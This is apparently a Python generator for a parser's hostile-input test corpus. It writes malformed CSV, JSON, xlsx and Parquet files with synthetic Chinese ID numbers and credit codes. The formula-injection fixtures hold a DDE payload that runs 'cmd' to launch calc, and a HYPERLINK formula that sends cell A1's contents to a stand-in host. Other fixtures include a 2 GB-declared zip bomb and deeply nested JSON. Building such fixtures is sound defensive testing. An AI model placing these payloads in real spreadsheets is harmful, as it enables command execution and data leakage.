"""The hostile input corpus of ``tests/hostile/cases.yaml``: every file, byte for byte.

Small files (≤ 64 KB) are committed under ``tests/hostile/files/``; regenerate them with

    .venv/bin/python tests/hostile/generate.py            # rewrites tests/hostile/files/

Large ones (the 10 MB field, 100,000 columns, the xlsx zip bomb, 120,000 rows, a 2 MB line
without a newline at the end) are never committed: the corpus test writes them into a
temporary folder with :func:`write_large` (``generate.py --large DIR`` does the same by hand).

Resident ID numbers (GB 11643) and unified social credit codes (GB 32100) are built here with
their own check-character code, not the exchange's, so the corpus is an independent oracle.
"""

from __future__ import annotations

import argparse
import codecs
import io
import json
import re
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path

HERE = Path(__file__).resolve().parent
FILES = HERE / "files"

# The person feeds' columns (see FEEDS in tests/hostile/corpus.py).
HEADER = ["编号", "姓名", "身份证号", "性别", "出生日期", "电话", "住址", "行政区划代码"]
EN_HEADER = ["id", "name", "id_number", "gender", "birth_date", "phone", "address", "division_code"]
ORG_HEADER = ["编号", "统一社会信用代码", "名称", "状态"]

# ------------------------------------------------------------------ independent check characters

_ID_WEIGHTS = [7, 9, 10, 5, 8, 4, 2, 1, 6, 3, 7, 9, 10, 5, 8, 4, 2]
_ID_CHECK = "10X98765432"
USCC_ALPHABET = "0123456789ABCDEFGHJKLMNPQRTUWXY"


def id_check(first17: str) -> str:
    """ISO 7064 MOD 11-2 check character of a resident ID number's first 17 digits."""
    return _ID_CHECK[sum(int(d) * w for d, w in zip(first17, _ID_WEIGHTS, strict=True)) % 11]


def id18(region: str, birth: str, seq: int) -> str:
    """A resident ID number with a correct check character (birth ``YYYYMMDD``, 3-digit sequence)."""
    first17 = f"{region}{birth}{seq:03d}"
    return first17 + id_check(first17)


def gender_of(seq: int) -> str:
    return "男" if seq % 2 else "女"


def uscc(first17: str) -> str:
    """A unified social credit code with its GB 32100 check character."""
    total = sum(USCC_ALPHABET.index(c) * pow(3, i, 31) for i, c in enumerate(first17))
    return first17 + USCC_ALPHABET[(31 - total % 31) % 31]


ZHANG = id18("110105", "19491231", 2)   # 11010519491231002X, 女
LI = id18("110105", "19800101", 11)     # 男
MALE_X = next(i for i in (id18("110105", "19800101", s) for s in range(1, 1000, 2)) if i.endswith("X"))
WANG = id18("110105", "19900102", 24)   # 女


def row(rid: str, name: str = "张三", idn: str = "", gender: str = "女", birth: str = "1949-12-31",
        phone: str = "13800138000", address: str = "北京市朝阳区", division: str = "110105") -> list[str]:
    return [rid, name, idn, gender, birth, phone, address, division]


PEOPLE = [row("P1"), row("P2", "李四", LI, "男", "1980-01-01")]


def csv_text(rows: list[list[str]], header: list[str] = HEADER, sep: str = ",", eol: str = "\n") -> str:
    """Plain delimited text; fields are written as given (callers quote where they mean to)."""
    return "".join(sep.join(r) + eol for r in [header, *rows])


# ------------------------------------------------------------------ small files (committed)

Builder = Callable[[Path], None]
SMALL: dict[str, Builder] = {}
LARGE: dict[str, Builder] = {}


def small(name: str) -> Callable[[Callable], Callable]:
    """Register a committed file: ``fn()`` returns its bytes, or ``fn(path)`` writes it."""
    def register(fn: Callable) -> Callable:
        def build(path: Path) -> None:
            data = fn() if fn.__code__.co_argcount == 0 else fn(path)
            if data is not None:
                path.write_bytes(data)
        SMALL[name] = build
        return fn
    return register


def large(name: str) -> Callable[[Builder], Builder]:
    def register(fn: Builder) -> Builder:
        LARGE[name] = fn
        return fn
    return register


@small("id_check_chars.csv")
def _id_check_chars() -> bytes:
    """One valid ID number for each of the 11 check characters 0-9 and X."""
    rows, seen = [], set()
    for seq in range(1, 1000):
        idn = id18("110105", "19800101", seq)
        if idn[-1] not in seen:
            seen.add(idn[-1])
            rows.append(row(f"C{idn[-1]}", f"校验{idn[-1]}", idn, gender_of(seq), "1980-01-01"))
        if len(seen) == 11:
            break
    rows.sort(key=lambda r: r[0])
    return csv_text(rows).encode()


@small("id_lowercase_x.csv")
def _id_lowercase_x() -> bytes:
    lower = ZHANG[:-1] + "x"
    spaced = f"{ZHANG[:6]} {ZHANG[6:14]} {ZHANG[14:-1]}x"
    return csv_text([row("P1", idn=lower), row("P2", "李四", spaced), row("P3", "王五", ZHANG + "x")]).encode()


@small("id_separators.csv")
def _id_separators() -> bytes:
    idn = id18("110105", "19850104", 2)  # 110105198501040027
    parts = (idn[:6], idn[6:14], idn[14:])
    return csv_text([row("D1", "李四", "-".join(parts), birth="1985-01-04", phone="138-0013-8000"),
                     row("D2", "李五", "\u2013".join(parts), birth="1985-01-04", phone="138 0013 8000"),
                     row("D3", "李六", f"{parts[0]} {parts[1]}\t{parts[2]}", birth="1985-01-04",
                         phone="+86 138-0013-8000"),
                     row("D4", "李七", "\uff0d".join(parts), birth="1985-01-04")]).encode()


@small("id_never_issued.csv")
def _id_never_issued() -> bytes:
    return csv_text([row("E1", "王五", id18("110105", "19850104", 0), birth="1985-01-04"),  # Excel's …0000
                     row("E2", "赵六", id18("110110", "19900101", 2), birth="1990-01-01", address="北京市房山区",
                         division="110111"),  # 燕山区: abolished in 1986
                     row("E3", "钱七", id18("110110", "19800101", 2), birth="1980-01-01", address="北京市房山区",
                         division="110111")]).encode()


@small("header_zero_width.csv")
def _header_zero_width() -> bytes:
    return csv_text([row("P1")], header=[h if h != "姓名" else "\u200b姓名" for h in HEADER]).encode()


@small("id_legacy_15.csv")
def _id_legacy_15() -> bytes:
    return csv_text([row("P1", idn="110105491231002"), row("P2", "李四", "11010549123100"),
                     row("P3", "王五", WANG, birth="1990-01-02")]).encode()


@small("birth_date_invalid.csv")
def _birth_date_invalid() -> bytes:
    feb30 = id18("110105", "19800230", 11)
    return csv_text([row("P1", "李四", feb30, "男", ""),
                     row("P2", "王五", "", "男", "19800230"),
                     row("P3", "赵六", "", "男", "1980年2月29日"),
                     row("P4", "钱七", "", "男", "1900-02-29")]).encode()


@small("birth_date_future.csv")
def _birth_date_future() -> bytes:
    return csv_text([row("P1", "李四", id18("110105", "20991231", 11), "男", ""),
                     row("P2", "王五", "", "男", "2099-01-01"),
                     row("P3", "赵六", id18("110105", "18491231", 11), "男", ""),
                     row("P4", "钱七", LI, "男", "1980-01-01")]).encode()


@small("division_abolished.csv")
def _division_abolished() -> bytes:
    # 110103 崇文区 was abolished in 2010; ID numbers issued there stay valid for life.
    old_id = id18("110103", "19700101", 11)
    return csv_text([row("P1", division="110103"),
                     row("P2", "李四", old_id, "男", "1970-01-01", division="110105"),
                     row("P3", "王五", division="999999"),
                     row("P4", "赵六", division="110103001001"),
                     row("P5", "钱七", division="1101")]).encode()


@small("fullwidth_digits.csv")
def _fullwidth_digits() -> bytes:
    def fw(s: str) -> str:
        return "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in s)
    return csv_text([row("P1", idn=fw(ZHANG), birth=fw("1949年12月31日"),
                         phone=fw("13800138000"), division=fw("110105")),
                     row("P2", "李四", fw(MALE_X[:-1] + "x"), "男", fw("1980-01-01"), "１３８　００１３　８０００",
                         division="１１０１０５")]).encode()


@small("cjk_ext_b.csv")
def _cjk_ext_b() -> bytes:
    names = ["𠀀三", "𪚥", "𠮷野家", "张𡃁", "𬌗明", "王\u200d五", "李\u202e四", "é\u0301x"]
    return csv_text([row(f"P{i}", n) for i, n in enumerate(names, 1)]).encode()


@small("ragged_rows.csv")
def _ragged_rows() -> bytes:
    text = csv_text([row("P1")])
    text += "P2,李四," + LI + ",男\n"                                   # short
    text += ",".join(row("P3", "王五", WANG, birth="1990-01-02")) + ",多余,更多\n"   # long
    text += ",".join(row("P4", "赵六")) + "\n"
    return text.encode()


@small("stray_quotes.csv")
def _stray_quotes() -> bytes:
    text = csv_text([row("P1")])
    text += 'P2,张"三,,女,1949-12-31,13800138000,北京,110105\n'      # quote inside an unquoted field: kept
    text += 'P3,"李四"x,,男,1980-01-01,13800138000,北京,110105\n'     # text after a closing quote
    text += 'P4,"王""五",,女,1990-01-02,13800138000,"北京,朝阳",110105\n'
    text += 'P5,赵六,,男,1980-01-01,13800138000,北京",110105\n'
    return text.encode()


@small("embedded_newlines.csv")
def _embedded_newlines() -> bytes:
    text = csv_text([row("P1")])
    text += 'P2,李四,,男,1980-01-01,13800138000,"北京市\n朝阳区",110105\n'
    text += 'P3,王五,,女,1990-01-02,13800138000,"第一行\r\n第二行\r\n\r\n第四行",110105\n'
    text += 'P4,"赵\n六",,男,1980-01-01,13800138000,北京,110105\n'
    return text.encode()


@small("nul_byte.csv")
def _nul_byte() -> bytes:
    return csv_text([row("P1"), row("P2", "李\x00四", gender="男")]).encode()


@small("formula_injection.csv")
def _formula_injection() -> bytes:
    text = csv_text([row("P1", "=1+1", address='"=HYPERLINK(""http://x.example/?""&A1,""点击"")"'),
                     row("P2", "+张三", address="+86 北京"),
                     row("P3", "-李四", address="-1+2"),
                     row("P4", "@SUM(A1)", address="@王五"),
                     row("P5", "赵六", address="=cmd|' /C calc'!A0"),
                     row("P6", "钱七", phone="+86 138 0013 8000", address="-")])
    text += 'P7,"\t=1+1",,女,1949-12-31,13800138000,"\r=2+2",110105\n'
    return text.encode()


@small("gbk.csv")
def _gbk() -> bytes:
    return csv_text([row("P1"), row("P2", "李四", LI, "男", "1980-01-01", address="上海市浦东新区")]).encode("gbk")


@small("gb18030.csv")
def _gb18030() -> bytes:
    return csv_text([row("P1", "𠀀三"), row("P2", "𪚥", LI, "男", "1980-01-01"),
                     row("P3", "王五", WANG, "女", "1990-01-02", address="€㐀䶵")]).encode("gb18030")


@small("utf8_bom.csv")
def _utf8_bom() -> bytes:
    return codecs.BOM_UTF8 + csv_text([row("P1"), row("P2", "𠀀四", LI, "男", "1980-01-01")]).encode()


@small("utf16le_bom.csv")
def _utf16le() -> bytes:
    return codecs.BOM_UTF16_LE + csv_text([row("P1"), row("P2", "𪚥", LI, "男", "1980-01-01")],
                                          eol="\r\n").encode("utf-16-le")


@small("utf16be_bom.tsv")
def _utf16be() -> bytes:
    return codecs.BOM_UTF16_BE + csv_text([row("P1"), row("P2", "𠀀四", LI, "男", "1980-01-01")],
                                          sep="\t").encode("utf-16-be")


@small("utf16_no_bom.csv")
def _utf16_no_bom() -> bytes:
    return csv_text([row("P1")]).encode("utf-16-le")


@small("utf16_nul_char.csv")
def _utf16_nul_char() -> bytes:
    # U+0000 is a valid UTF-16 code unit: the file decodes, the value holds a NUL character
    return codecs.BOM_UTF16_LE + csv_text([row("P1"), row("P2", "李\x00四", LI, "男", "1980-01-01")]).encode(
        "utf-16-le")


@small("utf16_nul_record_id.csv")
def _utf16_nul_record_id() -> bytes:
    # the NUL in the record id: the quarantined row must still be written, its key shown as P\u00002;
    # one in the name of an unmapped column, kept in the originals
    rows = [[*row("P1"), "a"], [*row("P\x002", "李四", LI, "男", "1980-01-01"), "b"],
            [*row("P3", "王\x00五", WANG, "女", "1990-01-02"), "c"]]
    return codecs.BOM_UTF16_LE + csv_text(rows, header=[*HEADER, "备\x00注"]).encode("utf-16-le")


@small("utf16_nul_header.csv")
def _utf16_nul_header() -> bytes:
    # a NUL inside a mapped column's name: that column is missing, and the error must still be recorded
    header = [*HEADER]
    header[1] = "姓\x00名"
    return codecs.BOM_UTF16_LE + csv_text([row("P1")], header=header).encode("utf-16-le")


@small("mixed_utf8_gbk.csv")
def _mixed_utf8_gbk() -> bytes:
    return (csv_text([row("P1")]).encode() + ",".join(row("P2", "李四", LI, "男", "1980-01-01")).encode("gbk")
            + b"\n")


@small("mixed_utf8_gbk_even.csv")
def _mixed_utf8_gbk_even() -> bytes:
    """UTF-8 whose every run of CJK characters is even, then one GBK row: as a whole the bytes
    also decode as GB18030 (into mojibake) — the trap of falling back to GB18030 blindly."""
    rows = [row("P1", "张三", ZHANG, "F", "1949-12-31", address="北京朝阳"),
            row("P2", "李四", LI, "M", "1980-01-01", address="上海浦东")]
    return csv_text(rows).encode() + ",".join(row("P3", "王五", WANG, "F", "1990-01-02", address="广州天河")
                                              ).encode("gbk") + b"\n"


@small("mixed_utf8_gbk_even_ascii_header.csv")
def _mixed_utf8_gbk_even_ascii_header() -> bytes:
    """As above, with ASCII column names: read as GB18030 it would load with mojibake names."""
    rows = [row("P1", "张三", ZHANG, "F", "1949-12-31", address="北京朝阳"),
            row("P2", "李四", LI, "M", "1980-01-01", address="上海浦东")]
    return csv_text(rows, header=EN_HEADER).encode() + ",".join(
        row("P3", "王五", WANG, "F", "1990-01-02", address="广州天河")).encode("gbk") + b"\n"


@small("mixed_bom_gbk.csv")
def _mixed_bom_gbk() -> bytes:
    return codecs.BOM_UTF8 + _mixed_utf8_gbk()


@small("truncated_multibyte_eof.csv")
def _truncated_eof() -> bytes:
    # the file ends inside the name: "李" and the first two of the three bytes of "四"
    return csv_text([row("P1")]).encode() + "P2,李".encode() + "四".encode()[:2]


@small("truncated_multibyte_mid.csv")
def _truncated_mid() -> bytes:
    return (csv_text([row("P1")]).encode() + "P2,李".encode() + "四".encode()[:2] + b","
            + ",".join(row("P2")[2:]).encode() + b"\n")


@small("empty.csv")
def _empty() -> bytes:
    return b""


@small("header_only.csv")
def _header_only() -> bytes:
    return csv_text([]).encode()


@small("duplicate_headers.csv")
def _duplicate_headers() -> bytes:
    return csv_text([[*row("P1"), "x"]], header=[*HEADER, "姓名"]).encode()


@small("bom_crlf.csv")
def _bom_crlf() -> bytes:
    return codecs.BOM_UTF8 + csv_text([row("P1"), row("P2", "李四", LI, "男", "1980-01-01")], eol="\r\n").encode()


@small("cr_line_endings.csv")
def _cr_line_endings() -> bytes:
    return csv_text([row("P1"), row("P2", "李四", LI, "男", "1980-01-01")], eol="\r").encode()


@small("whitespace_only.csv")
def _whitespace_only() -> bytes:
    return b"   \n\t\n \r\n"


@small("blank_lines.csv")
def _blank_lines() -> bytes:
    text = "\n  \n" + csv_text([row("P1")]) + "\n\n" + ",".join(row("P2", "李四", LI, "男", "1980-01-01")) + "\n\n"
    return text.encode()


@small("semicolon_undeclared.csv")
def _semicolon_undeclared() -> bytes:
    return csv_text([row("P1")], sep=";").encode()


@small("semicolon_declared.csv")
def _semicolon_declared() -> bytes:
    return csv_text([row("P1", address="北京,朝阳区"), row("P2", "李四", LI, "男", "1980-01-01", address="a,b,c")],
                    sep=";").encode()


@small("trailing_delimiter.csv")
def _trailing_delimiter() -> bytes:
    return csv_text([[*row("P1"), ""]], header=[*HEADER, ""]).encode()


@small("trailing_empty_columns.csv")
def _trailing_empty_columns() -> bytes:
    """Three unnamed columns after the header, empty or blank in the rows; one row has a value in one."""
    return csv_text([[*row("P1"), "", "", ""], [*row("P2", "李四", LI, "男", "1980-01-01"), " ", "", ""],
                     [*row("P3", "王五", WANG, "女", "1990-01-02"), "", "x", ""], row("P4", "赵六")],
                    header=[*HEADER, "", "", ""]).encode()


@small("title_row.csv")
def _title_row() -> bytes:
    """A spreadsheet's merged title, saved as CSV: one value and empty fields, above the header."""
    return ("人口信息登记表" + "," * (len(HEADER) - 1) + "\n" + csv_text(PEOPLE)).encode()


@small("header_repeated.csv")
def _header_repeated() -> bytes:
    """Two exports concatenated: the header again in the middle."""
    return (csv_text([row("P1")]) + csv_text([row("P2", "李四", LI, "男", "1980-01-01")])).encode()


@small("total_row.csv")
def _total_row() -> bytes:
    """A spreadsheet's total line at the end."""
    return (csv_text(PEOPLE) + "合计,2人" + "," * (len(HEADER) - 2) + "\n").encode()


@small("phones_country_code.csv")
def _phones_country_code() -> bytes:
    return csv_text([row("P1", phone="+8613800138000"),
                     row("P2", "李四", LI, "男", "1980-01-01", phone="008613800138000"),
                     row("P3", "王五", WANG, "女", "1990-01-02", phone="+86 138 0013 8000")]).encode()


@small("dates_written_out.csv")
def _dates_written_out() -> bytes:
    """Dates with dots and in Chinese, and an Excel serial number (days since 1899-12-30)."""
    return csv_text([row("P1", "王五", WANG, "女", "1990.1.2"), row("P2", "王六", WANG, "女", "1990年1月2号"),
                     row("P3", "王七", WANG, "女", "1990年1月2日"), row("P4", "王八", WANG, "女", "32875")]).encode()


@small("name_mojibake.csv")
def _name_mojibake() -> bytes:
    """Names exported as UTF-8 and read back as Windows-1252 or Latin-1 (mojibake), beside real names in
    Latin letters with accents and in characters."""
    cp1252 = "张三".encode().decode("cp1252", errors="replace")   # å¼ ä¸‰
    latin1 = "李四".encode().decode("latin-1")
    return csv_text([row("M1", cp1252), row("M2", latin1, LI, "男", "1980-01-01"),
                     row("M3", "José Müller", WANG, "女", "1990-01-02"), row("M4", "阿依古丽·买买提")]).encode()


@small("excel_rounded_ids.csv")
def _excel_rounded_ids() -> bytes:
    """A column of ID numbers Excel rounded to 15 significant digits: …000, and one in exponent form."""
    rounded = [id18("110105", "19850104", seq)[:15] + "000" for seq in (27, 31, 45)]
    men = [row(f"R{i}", name, idn, "男", "1985-01-04")
           for i, (name, idn) in enumerate(zip(["李一", "李二", "李三", "李四"], [*rounded, "1.10105E+17"],
                                               strict=True), start=1)]
    return csv_text([*men,
                     row("R5", "王五", WANG, "女", "1990-01-02")]).encode()


@small("duplicate_keys.csv")
def _duplicate_keys() -> bytes:
    return csv_text([row("P1"), row("P2", "李四", LI, "男", "1980-01-01"), row("P1", "张三丰")]).encode()


@small("unterminated_quote.csv")
def _unterminated_quote() -> bytes:
    return (csv_text([row("P1")]) + 'P2,"李四,,男,1980-01-01,13800138000,北京,110105\nP3,王五\n').encode()


@small("binary_garbage.csv")
def _binary_garbage() -> bytes:
    return b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x10" + bytes(range(256))


@small("latin1_garbage.csv")
def _latin1_garbage() -> bytes:
    # ASCII, then bytes valid in neither UTF-8 nor GB18030 (0x80 and 0xFF never start a GB18030 character)
    return csv_text([row("P1", "Zhang San", gender="F", address="Beijing")], header=EN_HEADER).encode() + (
        b"P2,\xff\x80\xff,,M,1980-01-01,13800138000,Beijing,110105\n")


@small("reserved_header.csv")
def _reserved_header() -> bytes:
    return csv_text([[*row("P1"), "1"]], header=[*HEADER, "_source_row"]).encode()


@small("gender_unmapped.csv")
def _gender_unmapped() -> bytes:
    return csv_text([row("P1"), row("P2", "李四", gender="未知"), row("P3", "王五", gender="")]).encode()


@small("underscore_columns.csv")
def _underscore_columns() -> bytes:
    """Column names starting with "_" (MongoDB's "_id") are the agency's, not the exchange's metadata."""
    header = ["_id", "姓名", "性别", "住址", "_备注"]
    rows = [["P1", "张三", "女", "北京", "_x"], ["P2", "李四", "未知", "上海", "第二行"]]
    return csv_text(rows, header=header).encode()


@small("credit_codes.csv")
def _credit_codes() -> bytes:
    rows = []
    for i, reg in enumerate("19ANY", 1):
        rows.append([f"O{i}", uscc(f"{reg}1110105MA01ABC10"), f"机构{reg}", "存续"])
    good = uscc("91110105MA01ABC10")
    for j, bad in enumerate("IOSVZ", 1):
        code = good[:8] + bad + good[9:]
        rows.append([f"B{j}", code, f"含{bad}", "存续"])
    rows.append(["R1", uscc("B1110105MA01ABC10"), "登记机关B", "存续"])       # not a registrar
    rows.append(["K1", good[:-1] + ("0" if good[-1] != "0" else "1"), "校验错", "存续"])
    rows.append(["L1", good.lower(), "小写", "存续"])
    rows.append(["W1", "９" + good[1:], "全角", "存续"])
    return csv_text(rows, header=ORG_HEADER).encode()


# --- JSON / NDJSON

def _person_obj(rid: str, name: str = "张三", idn: str | int | float = ZHANG, gender: str = "女",
                birth: str = "1949-12-31") -> dict[str, object]:
    return dict(zip(HEADER, [rid, name, idn, gender, birth, "13800138000", "北京市朝阳区", "110105"], strict=True))


@small("json_not_array.json")
def _json_not_array() -> bytes:
    return json.dumps({"data": [_person_obj("P1")]}, ensure_ascii=False).encode()


@small("json_numbers.json")
def _json_numbers() -> bytes:
    text = json.dumps([_person_obj("P1", idn="@@ID1@@"), _person_obj("P2", "李四", "@@ID2@@", "男", "1980-01-01"),
                       _person_obj("P3", "王五", "@@ID3@@", "女", "1990-01-02")], ensure_ascii=False)
    text = text.replace('"@@ID1@@"', "null").replace('"@@ID2@@"', LI).replace('"@@ID3@@"', "1.10105199001020240e17")
    return text.encode()


def _person_json(objs: list[str]) -> bytes:
    return ("[" + ",\n ".join(objs) + "]").encode()


def _obj_text(rid: str, name_json: str, gender: str = "女", extra: str = "") -> str:
    """One person record as JSON text; ``name_json`` is the raw JSON of the name (escapes kept)."""
    return (f'{{"编号": "{rid}", "姓名": {name_json}{extra}, "身份证号": null, "性别": "{gender}", '
            f'"出生日期": "1949-12-31", "电话": "13800138000", "住址": "北京", "行政区划代码": "110105"}}')


@small("json_duplicate_keys.json")
def _json_duplicate_keys() -> bytes:
    return _person_json([_obj_text("P1", '"张三"'), _obj_text("P2", '"李四"', "男", ', "姓名": "李肆"'),
                         _obj_text("P3", '"王五"')])


@small("json_lone_surrogate.json")
def _json_lone_surrogate() -> bytes:
    return _person_json([_obj_text("P1", '"张三"'), _obj_text("P2", '"李\\ud800四"', "男"),
                         _obj_text("P3", '"\\ud840\\udc00五"', "男"), _obj_text("P4", '"\\udc00"', "男")])


@small("json_nul_escape.json")
def _json_nul_escape() -> bytes:
    return _person_json([_obj_text("P1", '"张三"'), _obj_text("P2", '"李\\u0000四"', "男")])


@small("json_nul_record_id.json")
def _json_nul_record_id() -> bytes:
    objs = [_obj_text("P1", '"张三"'), _obj_text("P\\u00002", '"李四"', "男"), _obj_text("\\u0000", '"王\\u0000五"'),
            _obj_text("P4", '"赵六"')]
    return _person_json(objs)


@small("json_nesting_400.json")
def _json_nesting_400() -> bytes:
    """Values nested 400 deep: json.loads reads them, so they are values like any other (compact JSON text)."""
    deep = "[" * 400 + "]" * 400
    return _person_json([_obj_text("P1", '"张三"', extra=f', "备注": {deep}'),
                         _obj_text("P2", '"李四"', "男", extra=f', "备注": {{"a": {deep}}}')
                         .replace('"住址": "北京"', f'"住址": {deep}')])


@small("json_deep_nesting.json")
def _json_deep_nesting() -> bytes:
    return ('[{"编号": "P1", "姓名": "张三", "性别": "女", "住址": ' + "[" * 20_000 + "]" * 20_000 + "}]").encode()


@small("ndjson_broken_line.ndjson")
def _ndjson_broken() -> bytes:
    lines = [json.dumps(_person_obj("P1"), ensure_ascii=False),
             '{"编号": "P2", "姓名": "李四", "性别": "男"',          # cut short
             json.dumps(_person_obj("P3", "王五", WANG, "女", "1990-01-02"), ensure_ascii=False),
             "[1, 2]",
             '"just a string"',
             json.dumps(_person_obj("P6", "𠀀六", LI, "男", "1980-01-01"), ensure_ascii=False)]
    return ("\n".join(lines)).encode()        # no newline after the last line


@small("ndjson_as_json.json")
def _ndjson_as_json() -> bytes:
    """NDJSON saved with a .json extension."""
    return "".join(json.dumps(dict(zip(HEADER, r, strict=True)), ensure_ascii=False) + "\n" for r in PEOPLE).encode()


@small("json_array_as.ndjson")
def _json_array_as_ndjson() -> bytes:
    """A pretty-printed JSON array saved with a .ndjson extension."""
    return json.dumps([dict(zip(HEADER, r, strict=True)) for r in PEOPLE], ensure_ascii=False, indent=2).encode()


# --- xlsx

def _xlsx(path: Path, rows: list[list[object]], *, inline: dict[str, str] | None = None,
          cached: dict[str, str] | None = None) -> None:
    """Write rows with openpyxl; ``inline``: cell → text written as a string even if it starts
    with '='; ``cached``: formula cell → cached value (as Excel would store it)."""
    import openpyxl

    wb = openpyxl.Workbook()
    ws = wb.active
    for r in rows:
        ws.append(r)
    for ref, text in (inline or {}).items():
        ws[ref].value = text
        ws[ref].data_type = "s"
    buf = io.BytesIO()
    wb.save(buf)
    if not cached:
        path.write_bytes(buf.getvalue())
        return
    # openpyxl writes formulas without a cached value; put one in, as Excel would
    src = zipfile.ZipFile(io.BytesIO(buf.getvalue()))
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as out:
        for info in src.infolist():
            data = src.read(info)
            if info.filename == "xl/worksheets/sheet1.xml":
                text = data.decode()
                for ref, value in cached.items():
                    text, n = re.subn(rf'(<c r="{ref}"[^>]*)>(<f>[^<]*</f>)<v\s*/>',
                                      lambda m, v=value: f'{m.group(1)} t="str">{m.group(2)}<v>{v}</v>', text)
                    assert n == 1, ref
                data = text.encode()
            out.writestr(info, data)


@small("xlsx_formulas.xlsx")
def _xlsx_formulas(path: Path) -> None:
    _xlsx(path, [HEADER,
                 row("P1", address="=\"北京\"&\"朝阳\""),          # formula with a cached value
                 row("P2", "李四", LI, "男", "1980-01-01", address="=1+1"),   # formula, no cached value
                 row("P3", "王五", WANG, "女", "1990-01-02", address="")],
          inline={"G4": "=3+3"}, cached={"G2": "北京朝阳"})


@small("xlsx_numeric_ids.xlsx")
def _xlsx_numeric_ids(path: Path) -> None:
    _xlsx(path, [HEADER, ["P1", "张三", int(WANG), "女",
                          "1990-01-02", 13800138000, "北京", 110105],
                 ["P2", "李四", 1.1010519800101001e17, "男", "1980-01-01", 13800138000.0, "北京", 110105]])


@small("xlsx_formula_injection.xlsx")
def _xlsx_formula_injection(path: Path) -> None:
    _xlsx(path, [HEADER, row("P1", "x"), row("P2", "@SUM(A1)", LI, "男", "1980-01-01", address="+86 北京"),
                 row("P3", "-王五", WANG, "女", "1990-01-02", address="-")],
          inline={"B2": "=1+1", "G2": "=cmd|' /C calc'!A0"})


def _workbook(path: Path, sheets: dict[str, list[list[object]]], merge: dict[str, str] | None = None) -> None:
    """A workbook of several sheets (name → rows), in order; ``merge``: sheet → a range merged on it."""
    import openpyxl

    wb = openpyxl.Workbook()
    wb.remove(wb.active)
    for name, rows in sheets.items():
        ws = wb.create_sheet(name)
        for r in rows:
            ws.append(r)
        if merge and name in merge:
            ws.merge_cells(merge[name])
    buf = io.BytesIO()
    wb.save(buf)
    path.write_bytes(buf.getvalue())



@small("xlsx_second_sheet.xlsx")
def _xlsx_second_sheet(path: Path) -> None:
    """The first sheet left empty, the data on the second."""
    _workbook(path, {"Sheet1": [], "人口": [HEADER, *PEOPLE]})


@small("xlsx_notes_sheet_first.xlsx")
def _xlsx_notes_sheet_first(path: Path) -> None:
    """A sheet of notes before the data's sheet."""
    _workbook(path, {"说明": [["本表由人口信息系统导出"], ["导出时间：2026-01-05"]], "人口": [HEADER, *PEOPLE]})


@small("xlsx_title_row.xlsx")
def _xlsx_title_row(path: Path) -> None:
    """A title merged over the header's width, above the header."""
    _workbook(path, {"Sheet1": [["人口信息登记表"], HEADER, *PEOPLE]}, merge={"Sheet1": "A1:H1"})


@small("xlsx_truncated.xlsx")
def _xlsx_truncated(path: Path) -> None:
    """A workbook cut short in transfer (the zip's end is missing)."""
    _workbook(path, {"人口": [HEADER, *PEOPLE]})
    data = path.read_bytes()
    path.write_bytes(data[:len(data) * 2 // 3])


@small("xlsx_declared_2gb.xlsx")
def _xlsx_declared_2gb(path: Path) -> None:
    """A small workbook whose zip directory declares its sheet 2 GB uncompressed."""
    _workbook(path, {"人口": [HEADER, *PEOPLE]})
    data = bytearray(path.read_bytes())
    name = b"xl/worksheets/sheet1.xml"
    at = data.find(b"PK\x01\x02")
    while at >= 0:  # every central directory entry: signature, ..., uncompressed size at +24, name at +46
        if data[at + 46:at + 46 + len(name)] == name:
            data[at + 24:at + 28] = (2**31).to_bytes(4, "little")
        at = data.find(b"PK\x01\x02", at + 4)
    path.write_bytes(bytes(data))


@small("xlsx_not_a_zip.xlsx")
def _xlsx_not_a_zip() -> bytes:
    return csv_text([row("P1")]).encode()


# --- Parquet

@small("parquet_truncated.parquet")
def _parquet_truncated(path: Path) -> None:
    import pyarrow as pa
    import pyarrow.parquet as pq

    buf = io.BytesIO()
    pq.write_table(pa.table({h: [v] * 200 for h, v in zip(HEADER, row("P1", idn=ZHANG), strict=True)}), buf)
    path.write_bytes(buf.getvalue()[:-200])


@small("parquet_wrong_types.parquet")
def _parquet_wrong_types(path: Path) -> None:
    import datetime as dt

    import pyarrow as pa
    import pyarrow.parquet as pq

    table = pa.table({
        "编号": pa.array([1, 2, 3], pa.int64()),
        "姓名": pa.array(["张三", "李四", "王五"]),
        # an ID number as a float: 17 significant digits do not survive
        "身份证号": pa.array([float(ZHANG[:-1]), float(LI), None], pa.float64()),
        "性别": pa.array(["女", "男", "女"]).dictionary_encode(),
        "出生日期": pa.array([dt.date(1949, 12, 31), dt.date(1980, 1, 1), dt.date(1990, 1, 2)]),
        "电话": pa.array([13800138000, 13800138000, 13800138000], pa.int64()),
        "住址": pa.array(["北京", None, "上海"]),
        "行政区划代码": pa.array([110105, 110105, 110105], pa.int32()),
    })
    pq.write_table(table, path)


@small("parquet_binary_column.parquet")
def _parquet_binary(path: Path) -> None:
    import pyarrow as pa
    import pyarrow.parquet as pq

    cols = {h: pa.array([v, v]) for h, v in zip(HEADER, row("P1"), strict=True)}
    cols["编号"] = pa.array(["P1", "P2"])
    cols["姓名"] = pa.array(["张三".encode("gbk"), "李四".encode()], pa.binary())
    pq.write_table(pa.table(cols), path)


@small("parquet_nul_values.parquet")
def _parquet_nul(path: Path) -> None:
    import pyarrow as pa
    import pyarrow.parquet as pq

    rows = [row("P1"), row("P\x002", "李四", LI, "男", "1980-01-01"), row("P3", "王\x00五", WANG, "女", "1990-01-02"),
            row("P4", "赵六", address="北京\x00")]
    pq.write_table(pa.table({h: pa.array(list(col)) for h, col in zip(HEADER, zip(*rows, strict=True), strict=True)}),
                   path)


# ------------------------------------------------------------------ large files (generated at test time)

TEN_MB = 10 * 1024 * 1024


@large("field_10mb.csv")
def _field_10mb(path: Path) -> None:
    """A 10 MB address (over the schema's max_length) and a 10 MB unmapped column."""
    big = "长" * (TEN_MB // 3)
    header = [*HEADER, "备注"]
    with path.open("w", encoding="utf-8", newline="") as f:
        f.write(",".join(header) + "\n")
        f.write(",".join([*row("P1", address=big), ""]) + "\n")
        f.write(",".join([*row("P2", "李四", LI, "男", "1980-01-01"), f'"{big},\n"']) + "\n")
        f.write(",".join([*row("P3", "王五", WANG, "女", "1990-01-02"), "短"]) + "\n")


@large("columns_100k.csv")
def _columns_100k(path: Path) -> None:
